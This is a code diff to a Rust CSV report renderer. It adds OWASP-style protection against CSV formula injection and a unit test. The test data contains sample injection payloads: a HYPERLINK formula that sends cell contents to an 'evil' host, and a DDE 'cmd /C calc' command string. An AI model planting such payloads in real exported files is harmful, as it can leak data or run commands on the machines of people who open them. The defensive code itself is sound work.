@@ -3,6 +3,12 @@
 //! a team), told apart by the `scope` column. Values are exact (seconds, fractions,
 //! per day), an absent value is an empty cell; the columns are listed by
 //! [`columns`] and documented in `docs/report.md`.
+//!
+//! Text cells stay inert in a spreadsheet: a cell that starts with a character a
+//! spreadsheet reads as the start of a formula (`=`, `+`, `-`, `@`, tab, carriage
+//! return; a team named `=HYPERLINK(...)`) gets a leading `'`, as OWASP's "CSV
+//! Injection" guidance says. Number cells are written by this module and are plain
+//! numbers (a negative change starts with `-` and stays a number).
 
 use crate::report::model::{Metric, Report, ScopeKind, ScopeReport};
 use crate::report::ReportError;
@@ -68,20 +74,34 @@ pub fn render(report: &Report) -> Result<String, ReportError> {
     String::from_utf8(bytes).map_err(|e| error(e.to_string()))
 }
 
+/// The first characters that make a spreadsheet evaluate a cell (OWASP, "CSV
+/// Injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell that a spreadsheet shows as text: prefixed with `'` when it would
+/// start a formula.
+pub(crate) fn inert(text: &str) -> String {
+    if text.starts_with(FORMULA_STARTS) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
 fn number(value: Option<f64>) -> String {
     value.map_or(String::new(), |v| v.to_string())
 }
 
 fn row(report: &Report, scope: &ScopeReport) -> Vec<String> {
     let mut row = vec![
-        scope.scope.as_str().to_owned(),
-        scope.name.clone(),
-        scope.team.clone().unwrap_or_default(),
-        scope.environment.clone().unwrap_or_default(),
+        inert(scope.scope.as_str()),
+        inert(&scope.name),
+        inert(scope.team.as_deref().unwrap_or_default()),
+        inert(scope.environment.as_deref().unwrap_or_default()),
         scope.repositories.map_or(String::new(), |n| n.to_string()),
         report.period.start.to_rfc3339(),
         report.period.end.to_rfc3339(),
-        report.period.window.clone(),
+        inert(&report.period.window),
         scope.deployments.to_string(),
         scope.failed_deployments.to_string(),
         scope.rework_deployments.to_string(),
@@ -90,16 +110,39 @@ fn row(report: &Report, scope: &ScopeReport) -> Vec<String> {
     for (metric, value) in scope.metrics.iter() {
         row.push(number(value.value));
         if metric.has_level() {
-            row.push(value.level.map_or(String::new(), |l| l.name().to_owned()));
+            row.push(value.level.map_or(String::new(), |l| inert(l.name())));
         }
         row.push(value.samples.to_string());
         row.push(number(value.previous));
         row.push(number(value.change));
-        row.push(
-            value
-                .direction
-                .map_or(String::new(), |d| d.as_str().to_owned()),
-        );
+        row.push(value.direction.map_or(String::new(), |d| inert(d.as_str())));
     }
     row
+}
+
+#[cfg(test)]
+mod tests {
+    use super::inert;
+
+    #[test]
+    fn cells_that_would_start_a_formula_are_prefixed() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
+                "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("payments", "payments"),
+            ("a=b", "a=b"),
+            ("'quoted", "'quoted"),
+            ("", ""),
+        ];
+        for (cell, expected) in cases {
+            assert_eq!(inert(cell), expected, "{cell:?}");
+        }
+    }
 }
